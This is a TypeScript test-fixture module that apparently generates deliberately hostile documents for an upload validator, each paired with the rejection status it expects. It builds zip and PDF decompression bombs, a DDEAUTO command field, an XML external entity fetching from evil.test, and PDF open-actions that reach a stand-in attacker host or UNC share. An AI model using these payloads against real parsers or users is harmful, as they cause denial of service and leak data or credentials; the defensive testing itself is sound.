import { deflateSync } from 'node:zlib'
import { office, pdfWithObjectStream } from './documents'
import { deflatedZip } from './zip-file'

const MEGABYTE = 1024 * 1024

const TYPES = (main: string): string =>
  `<Types><Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.${main}"/></Types>`
const DOCX = TYPES('wordprocessingml.document.main+xml')

const filled = (piece: string, megabytes = 9): Buffer =>
  Buffer.from(
    `%PDF-1.7\n${piece.repeat(Math.floor((megabytes * MEGABYTE) / piece.length))}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  )
const opening = (action: string): Buffer =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction ${action}/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  )

/** A picture of many pieces, none of which is a picture. */
function chunks(): Buffer {
  const header = Buffer.from('89504e470d0a1a0a0000000d49484452000000020000000208000000000000000000', 'hex').subarray(
    0,
    33,
  )
  const empty = Buffer.from('000000007445587400000000', 'hex')
  return Buffer.concat([header, ...Array.from({ length: 700_000 }, () => empty)])
}

/** Two entries of the directory that are one entry of the file. */
function overlapping(): Buffer {
  const bytes = office({ 'word/a.xml': '<a/>', 'word/b.xml': '<b/>' })
  const last = bytes.lastIndexOf('PK\x01\x02')
  const before = bytes.lastIndexOf('PK\x01\x02', last - 1)
  bytes.copy(bytes, last + 42, before + 42, before + 46)
  return bytes
}

export interface WorstFile {
  name: string
  bytes: () => Buffer
  status: number
  code: string
}

/** The file of each kind that gives its reader the most to do, or its finder the most to do with, and its answer. */
export const WORST_FILES: readonly WorstFile[] = [
  {
    name: 'relationships.docx',
    bytes: () => office({ 'word/_rels/document.xml.rels': '<Relationship xxxx'.repeat(20_000) }),
    ...{ status: 415, code: 'file-broken' },
  },
  {
    name: 'more-relationships.docx',
    bytes: () => office({ 'word/_rels/document.xml.rels': '<Relationship xxxx'.repeat(400_000) }),
    ...{ status: 415, code: 'file-broken' },
  },
  {
    name: 'fields.docx',
    bytes: () =>
      deflatedZip({
        '[Content_Types].xml': DOCX,
        'word/document.xml': `<w>${Array.from({ length: 900_000 }, (_, n) => `<w:instrText>${n}</w:instrText>`).join('')}<w:x`,
      }),
    ...{ status: 415, code: 'file-broken' },
  },
  {
    name: 'dde.docx',
    bytes: () => office({ 'word/document.xml': '<w:document><w:fldSimple w:instr="DDEAUTO cmd"/></w:document>' }),
    ...{ status: 415, code: 'file-active' },
  },
  {
    name: 'entity.docx',
    bytes: () => office({ 'word/x.xml': '<!DOCTYPE a SYSTEM "http://evil.test/x"><a/>' }),
    ...{ status: 415, code: 'file-active' },
  },
  {
    name: 'bomb.docx',
    bytes: () => deflatedZip({ '[Content_Types].xml': DOCX, 'word/a.xml': Buffer.alloc(50 * MEGABYTE, ' ') }),
    ...{ status: 413, code: 'file-unpacks-too-large' },
  },
  {
    name: 'zip-in-zip.docx',
    bytes: () => office({ 'word/inner.zip': 'PK' }),
    ...{ status: 415, code: 'file-active' },
  },
  { name: 'overlapping.docx', bytes: overlapping, ...{ status: 415, code: 'file-broken' } },
  {
    name: 'entries.xlsx',
    bytes: () => office(Object.fromEntries(Array.from({ length: 30_000 }, (_, n) => [`xl/${n}.xml`, '']))),
    ...{ status: 415, code: 'file-broken' },
  },
  {
    name: 'strings-in-strings.pdf',
    bytes: () => {
      const count = MEGABYTE
      return Buffer.from(`%PDF-1.7\n${'1 0 obj('.repeat(count)}${')'.repeat(count)}\n%%EOF\n`)
    },
    ...{ status: 413, code: 'file-too-complex' },
  },
  { name: 'strings.pdf', bytes: () => filled('1 0 obj<</A('), ...{ status: 415, code: 'file-broken' } },
  {
    name: 'bomb.pdf',
    bytes: () => pdfWithObjectStream(' '.repeat(60 * MEGABYTE)),
    ...{ status: 413, code: 'file-unpacks-too-large' },
  },
  {
    name: 'bombs.pdf',
    bytes: () => {
      const packed = deflateSync(Buffer.alloc(MEGABYTE, '['))
      const one = `stream\n${packed.toString('latin1')}\nendstream endobj\n`
      const objects = Array.from(
        { length: 200 },
        (_, n) => `${n} 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>${one}`,
      )
      return Buffer.from(`%PDF-1.5\n${objects.join('')}%%EOF`, 'latin1')
    },
    ...{ status: 415, code: 'file-broken' },
  },
  { name: 'chunks.png', bytes: chunks, ...{ status: 415, code: 'file-broken' } },
  {
    name: 'gotor.pdf',
    bytes: () => opening('<</S/GoToR/F(\\\\\\\\evil.test\\\\share)/D[0]>>'),
    ...{ status: 415, code: 'file-active' },
  },
  {
    name: 'importdata.pdf',
    bytes: () => opening('<</S/ImportData/F(http://evil.test/x.fdf)>>'),
    ...{ status: 415, code: 'file-active' },
  },
  {
    name: 'submitform.pdf',
    bytes: () => opening('<</S/SubmitForm/F(http://evil.test/)>>'),
    ...{ status: 415, code: 'file-active' },
  },
  {
    name: 'uri.pdf',
    bytes: () => opening('<</S/URI/URI(http://evil.test/)>>'),
    ...{ status: 415, code: 'file-active' },
  },
  {
    name: 'encrypted.pdf',
    bytes: () => Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF\n'),
    ...{ status: 415, code: 'file-encrypted' },
  },
]
